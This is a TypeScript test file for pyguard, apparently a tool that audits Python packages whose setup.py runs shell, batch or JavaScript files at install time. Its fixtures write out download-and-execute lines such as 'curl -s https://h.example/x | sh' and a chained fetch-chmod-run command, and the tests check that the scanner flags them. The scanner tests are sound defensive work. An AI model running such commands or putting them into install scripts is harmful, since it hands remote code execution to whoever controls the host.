// Scripts in other languages that setup.py runs at install time: shell and batch scripts are read line by line as the
// command lines they are (with install-time severity), a script the archive does not hold cannot be reviewed (high),
// and one in a language pyguard does not read (JavaScript) leaves the target unaudited.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analyseFiles } from './in-memory-target.ts';

const setup = (call: string) =>
  `from setuptools import setup\nimport subprocess\nsubprocess.call(${call})\nsetup(name="demo")\n`;
const analyse = (call: string, files: Record<string, string>) =>
  analyseFiles({ 'demo-1.0/setup.py': setup(call), ...files }, { name: 'demo', version: '1.0' });

test('a shell script setup.py runs is read as its command lines, at install time', async () => {
  const report = await analyse('["bash", "install.sh"]', {
    'demo-1.0/install.sh': '#!/bin/sh\n# fetch the helper\ncurl -s https://h.example/x \\\n  | sh\necho done\n',
  });
  const script = report.files.find((file) => file.path === 'demo-1.0/install.sh');
  assert.equal(script?.kind, 'script');
  const fetched = script?.findings.find((f) => f.rule === 'download-execute');
  assert.equal(fetched?.severity, 'critical');
  assert.equal(fetched?.line, 3, 'the line where the continued command starts');
  assert.equal(report.risk, 'critical');
});

test('a build script of builtins and build tools stays low', async () => {
  const report = await analyse('["bash", "build.sh"]', {
    'demo-1.0/build.sh': 'set -e\ncd src\necho building\nmake -j4\n',
  });
  assert.equal(report.risk, 'low');
});

test('a script the archive does not hold is high; one in a language pyguard does not read is unaudited', async () => {
  const missing = await analyse('["sh", "missing.sh"]', {});
  assert.equal(missing.risk, 'high');
  const javascript = await analyse('"node post.js", shell=True', {
    'demo-1.0/post.js': 'require("child_process").exec("id")\n',
  });
  assert.deepEqual(
    javascript.unaudited?.map((u) => u.path),
    ['demo-1.0/post.js'],
  );
});

test('a builtin chained to another command is read as a command (cd /tmp && ./x)', async () => {
  const report = await analyse('["bash", "go.sh"]', {
    'demo-1.0/go.sh': 'cd /tmp && curl -s -o x https://h.example/x && chmod +x x && ./x\n',
  });
  assert.ok(['high', 'critical'].includes(report.risk), report.risk);
});

test('a script of endless continued lines is read in bounded pieces, and its payload is still found', async () => {
  const endless = 'echo a \\\n'.repeat(50_000);
  const report = await analyse('["bash", "go.sh"]', {
    'demo-1.0/go.sh': `${endless}\ncurl -s https://h.example/x | sh\n`,
  });
  assert.equal(report.risk, 'critical');
});
